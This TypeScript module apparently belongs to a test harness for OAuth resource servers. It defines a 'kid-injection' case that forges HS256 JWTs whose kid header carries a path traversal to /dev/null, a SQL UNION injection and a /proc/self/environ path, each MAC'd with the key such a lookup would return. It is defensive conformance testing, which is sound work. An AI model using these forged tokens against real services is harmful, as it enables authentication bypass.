/**
 * kid-injection — a `kid` an RS might use as a file path or a query
 * (`../../../../../../dev/null`, a SQL `UNION`), with an HS256 MAC keyed by
 * what that lookup would return (an empty file, the injected string). An RS
 * that resolves kid outside its key set accepts (RFC 8725 §3.10).
 */
import { createHmac } from 'node:crypto'
import { claimsFor, joinJwt } from './jwt-parts.ts'
import { defineAttack } from './types.ts'

function hs256(header: Record<string, unknown>, payload: Record<string, unknown>, secret: string): string {
  const unsigned = joinJwt(header, payload, '').slice(0, -1)
  return `${unsigned}.${createHmac('sha256', secret).update(unsigned).digest('base64url')}`
}

export const kidInjection = defineAttack({
  id: 'kid-injection',
  summary: 'resolves kid as a path or a query (empty-file or injected key)',
  refs: ['RFC 8725 §3.10', 'RFC 7515 §4.1.4'],
  async build(kit) {
    const claims = claimsFor(kit.honest, kit.issuer, kit.rs.audience, kit.rs.scope)
    const cases: Array<[string, string, string]> = [
      ['kid ../../dev/null, MAC with an empty key', '../../../../../../dev/null', ''],
      ['kid SQL UNION, MAC with the injected key', "x' UNION SELECT 'gameday' -- ", 'gameday'],
      ['kid /proc/self/environ', '/proc/self/environ', ''],
    ]
    return {
      applicable: true,
      requests: cases.map(([variant, kid, secret]) => ({
        variant,
        token: hs256({ alg: 'HS256', typ: 'at+jwt', kid }, claims, secret),
      })),
    }
  },
})
